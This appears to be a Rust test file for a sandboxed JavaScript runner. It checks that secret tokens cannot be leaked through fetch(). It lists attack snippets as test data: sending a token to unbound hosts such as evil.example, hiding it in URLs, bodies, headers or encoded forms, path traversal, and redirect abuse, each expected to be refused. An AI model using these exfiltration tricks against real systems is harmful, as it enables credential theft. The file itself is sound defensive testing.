//! The code's own `fetch()` end to end inside the runner: real JavaScript in the QuickJS
//! sandbox, the real host ([`ScopedFetch`]) and a recording HTTPS upstream. The attacks are
//! written the way hostile code would write them (`Request` objects, `Headers` mutations,
//! `URL` objects, redirects); each must be refused with a `TypeError`, send nothing, and leave
//! no secret anywhere.

use std::collections::BTreeMap;
use std::sync::Arc;

use oauth3_crds::PermitSpec;
use oauth3_sandbox_runner::fetch::{FetchConfig, ScopedFetch};
use oauth3_sandbox_runner::host::CapabilityHost;
use oauth3_sandbox_runner::policy::Policy;
use oauth3_sandbox_runner::redact::Redactor;
use oauth3_sandbox_runner::sandbox::{self, Limits, Outcome, SandboxOutput};
use oauth3_test_support::Upstream;
use serde_json::{Value, json};
use zeroize::Zeroizing;

const SECRET: &str = "ghp-js-test-77e1d0";

fn permit(up: &Upstream) -> PermitSpec {
    let port = up.addr.port();
    serde_json::from_value(json!({
        "description": "fetch from JavaScript",
        "secrets": ["GITHUB_TOKEN"],
        "capabilities": [{
            "name": "github",
            "hosts": [format!("127.0.0.1:{port}"), format!("localhost:{port}")],
            "methods": ["GET", "POST"],
            "paths": ["/v1/**"],
            "secretBindings": [{"secret": "GITHUB_TOKEN", "hosts": [format!("127.0.0.1:{port}")]}]
        }]
    }))
    .expect("valid permit")
}

/// Runs `code` with `args.ORIGIN` (the bound host), `args.OTHER` (listed, unbound) and
/// `args.PORT`.
async fn run(up: &Upstream, code: &str) -> (SandboxOutput, Arc<ScopedFetch>) {
    let secrets = BTreeMap::from([("GITHUB_TOKEN".to_owned(), Zeroizing::new(SECRET.to_owned()))]);
    let redactor = Arc::new(Redactor::for_secrets(&secrets));
    let args = json!({
        "ORIGIN": up.origin(),
        "OTHER": format!("https://localhost:{}", up.addr.port()),
        "PORT": up.addr.port(),
    });
    let host = Arc::new(
        ScopedFetch::new(
            Policy::compile(&permit(up)).expect("policy"),
            secrets,
            Arc::clone(&redactor),
            FetchConfig {
                extra_root_certs_pem: vec![up.ca_pem.clone()],
                ..FetchConfig::default()
            },
        )
        .expect("host")
        .with_args(&args),
    );
    let out = sandbox::run(
        code,
        &args,
        Arc::clone(&host) as Arc<dyn CapabilityHost>,
        &Limits::default(),
        redactor,
    )
    .await
    .expect("sandbox runs");
    (out, host)
}

fn returned(out: &SandboxOutput) -> &Value {
    match &out.outcome {
        Outcome::Returned(v) => v,
        other => panic!("expected a value, got {other:?} (stderr {})", out.stderr),
    }
}

fn assert_no_secret(out: &SandboxOutput, host: &ScopedFetch) {
    let shown = format!("{out:?} {:?}", host.calls());
    assert!(!shown.contains(SECRET), "secret leaked: {shown}");
    assert!(!shown.contains("77e1d0"), "secret fragment leaked: {shown}");
}

#[tokio::test]
async fn unchanged_deno_style_code_gets_its_answer_and_only_a_placeholder() {
    let up = Upstream::start().await;
    let code = r#"
        const token = Deno.env.get('GITHUB_TOKEN');
        const res = await fetch(`${Deno.env.get('ORIGIN')}/v1/echo-auth`, {
            headers: { Authorization: `token ${token}` },
        });
        const json = await res.json();
        return { ok: res.ok, status: res.status, type: res.headers.get('content-type'),
                 echoed: json.authorization, sameAsEnv: process.env.GITHUB_TOKEN === token,
                 placeholder: token.startsWith('OAUTH3_SECRET_GITHUB_TOKEN_') };
    "#;
    let (out, host) = run(&up, code).await;
    let v = returned(&out);
    assert_eq!(
        v,
        &json!({"ok": true, "status": 200, "type": "application/json",
                "echoed": ["token [REDACTED]"], "sameAsEnv": true, "placeholder": true})
    );
    let got = up.assert_received(1, "one request");
    assert_eq!(
        got[0].header_values("authorization"),
        [format!("token {SECRET}")]
    );
    assert_no_secret(&out, &host);
}

/// Each snippet must end in `return` of what the attempt produced: it is run, and the
/// upstream must have received nothing.
async fn assert_refused(code: &str, needle: &str) {
    let up = Upstream::start().await;
    let wrapped = format!(
        "const p = Deno.env.get('GITHUB_TOKEN');\ntry {{\n{code}\nreturn 'sent';\n}} catch (e) {{ return `${{e.name}}: ${{e.message}}`; }}"
    );
    let (out, host) = run(&up, &wrapped).await;
    let v = returned(&out).as_str().unwrap_or_default().to_owned();
    assert!(
        v.starts_with("TypeError: ") && v.contains(needle),
        "{code}\n -> {v:?}, expected a TypeError containing {needle:?}"
    );
    up.assert_nothing_received(code);
    assert_no_secret(&out, &host);
}

#[tokio::test]
async fn attacks_written_in_javascript_are_refused_and_send_nothing() {
    let cases: &[(&str, &str)] = &[
        // A placeholder toward a host the binding does not name, in every way to say it.
        (
            "await fetch(`${args.OTHER}/v1/x`, {headers: {Authorization: 'Bearer ' + p}});",
            "may not be sent to localhost",
        ),
        (
            "await fetch(new URL('/v1/x', args.OTHER), {headers: {Authorization: 'Bearer ' + p}});",
            "may not be sent to localhost",
        ),
        (
            "await fetch(new Request(`${args.OTHER}/v1/x`, {headers: {Authorization: 'Bearer ' + p}}));",
            "may not be sent to localhost",
        ),
        // A Request built for the bound host, re-aimed: its headers go along.
        (
            "const ok = new Request(`${args.ORIGIN}/v1/x`, {headers: {Authorization: 'Bearer ' + p}});\nawait fetch(new Request(`${args.OTHER}/v1/x`, ok));",
            "may not be sent to localhost",
        ),
        (
            "const h = new Headers(); h.append('Authorization', 'Bearer ' + p);\nconst r = new Request(`${args.OTHER}/v1/x`, {headers: h});\nawait fetch(r);",
            "may not be sent to localhost",
        ),
        // Glued back together: still the placeholder, still the wrong host.
        (
            "await fetch(`${args.OTHER}/v1/x`, {headers: {Authorization: 'Bearer ' + p.slice(0, 5) + p.slice(5)}});",
            "may not be sent to localhost",
        ),
        // In the URL, the body, another header, even toward the bound host.
        ("await fetch(`${args.ORIGIN}/v1/${p}`);", "URL path"),
        (
            "await fetch(`${args.ORIGIN}/v1/x?token=${p}`);",
            "in the query",
        ),
        (
            "const u = new URL(`${args.ORIGIN}/v1/x`); u.searchParams.set('t', p); await fetch(u);",
            "in the query",
        ),
        (
            "await fetch(`${args.ORIGIN}/v1/x`, {method: 'POST', body: JSON.stringify({t: p})});",
            "in the body",
        ),
        (
            "await fetch(`${args.ORIGIN}/v1/x`, {headers: {'X-Token': p}});",
            "header x-token",
        ),
        // Transformed.
        (
            "await fetch(`${args.ORIGIN}/v1/x`, {headers: {Authorization: 'Bearer ' + [...p].reverse().join('')}});",
            "another form",
        ),
        (
            "await fetch(`${args.ORIGIN}/v1/x`, {headers: {Authorization: 'Token ' + btoa(p)}});",
            "another form",
        ),
        (
            "await fetch(`${args.ORIGIN}/v1/x`, {headers: {Authorization: 'Bearer ' + encodeURIComponent(p).replace(/_/g, '%5F')}});",
            "another form",
        ),
        // URLs written to mislead.
        (
            "await fetch(`${args.ORIGIN}/v1/a/%2e%2e/%2e%2e/admin`, {headers: {Authorization: 'Bearer ' + p}});",
            "segment",
        ),
        (
            "await fetch(`https://127.0.0.1:${args.PORT}\\\\@evil.example/v1/x`, {headers: {Authorization: 'Bearer ' + p}});",
            "backslash",
        ),
        (
            "await fetch(`https://localhost.:${args.PORT}/v1/x`, {headers: {Authorization: 'Bearer ' + p}});",
            "ends with a dot",
        ),
        (
            "await fetch(`https://[::1]:${args.PORT}/v1/x`, {headers: {Authorization: 'Bearer ' + p}});",
            "not in the hosts",
        ),
        (
            "await fetch(`https://u:${p}@127.0.0.1:${args.PORT}/v1/x`);",
            "credentials",
        ),
        (
            "await fetch('https://evil.example/', {headers: {Authorization: 'Bearer ' + p}});",
            "not in the hosts",
        ),
    ];
    for (code, needle) in cases {
        assert_refused(code, needle).await;
    }
}

#[tokio::test]
async fn redirects_follow_only_where_the_rules_allow_and_manual_hands_back_the_3xx() {
    let up = Upstream::start().await;
    let code = r#"
        const auth = { Authorization: 'Bearer ' + Deno.env.get('GITHUB_TOKEN') };
        const to = (u) => `${args.ORIGIN}/v1/redirect?to=${encodeURIComponent(u)}`;
        const followed = await fetch(to('/v1/echo-auth'), { headers: auth });
        const manual = await fetch(to(`${args.OTHER}/v1/echo-auth`), { headers: auth, redirect: 'manual' });
        let cross;
        try { await fetch(to(`${args.OTHER}/v1/echo-auth`), { headers: auth }); cross = 'followed'; }
        catch (e) { cross = e.name; }
        return { followed: [followed.status, followed.redirected, (await followed.json()).authorization],
                 manual: [manual.status, manual.headers.get('location')], cross };
    "#;
    let (out, host) = run(&up, code).await;
    let v = returned(&out);
    assert_eq!(
        v["followed"],
        json!([200, true, ["Bearer [REDACTED]"]]),
        "{v}"
    );
    assert_eq!(
        v["manual"],
        json!([
            302,
            format!("https://localhost:{}/v1/echo-auth", up.addr.port())
        ])
    );
    assert_eq!(v["cross"], "TypeError");
    let got = up.requests();
    // followed: 2 requests; manual: 1; cross: only the redirect itself.
    assert_eq!(got.len(), 4, "{got:?}");
    assert!(
        got.iter().all(|r| !r
            .header_values("host")
            .iter()
            .any(|h| h.starts_with("localhost"))),
        "nothing went to the unbound host: {got:?}"
    );
    assert_no_secret(&out, &host);
}
